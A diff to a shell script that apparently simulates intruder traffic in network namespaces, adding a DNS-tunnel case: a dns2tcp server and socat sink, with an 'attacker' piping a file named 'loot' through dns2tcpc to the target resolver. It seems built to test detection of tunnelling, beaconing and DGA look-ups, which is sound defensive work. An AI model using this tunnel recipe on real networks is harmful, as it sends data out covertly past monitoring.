@@ -89,6 +89,23 @@ dga_ask() {
 	attacker dig "@$TARGET" -b "$(at 201 "$ATTACKER")" +short +tries=1 +time=1 "$name.test"
 }
 
+# A connection inside of look-ups, through the resolver to whoever answers for the tunnel's names.
+kind_dns_tunnel() {
+	ns_start server sink.log socat -u TCP4-LISTEN:4444,bind=127.0.0.1,fork,reuseaddr,backlog=100 /dev/null
+	printf '%s\n' "listen = 127.0.0.1" "port = 5354" "user = root" "chroot = $PWD" "domain = tunnel.test" \
+		"resources = sink:127.0.0.1:4444" >dns2tcpd.conf
+	ns_start server dns2tcpd.log dns2tcpd -F -d 1 -f "$PWD/dns2tcpd.conf"
+	wait_for 10 in_ns server ss -Hlun 'sport = :5354'
+	head -c 20000 /dev/urandom >loot
+	wicked
+	record
+	LONGEST=12 crowd 240 10 tunnel
+}
+
+tunnel() {
+	head -c $((500 + $1 % 13 * 400)) loot | attacker dns2tcpc -c -z tunnel.test -r sink -l - "$TARGET" >/dev/null
+}
+
 # Programs of an intruder that call home, each at its own pace.
 kind_beacon() {
 	wicked
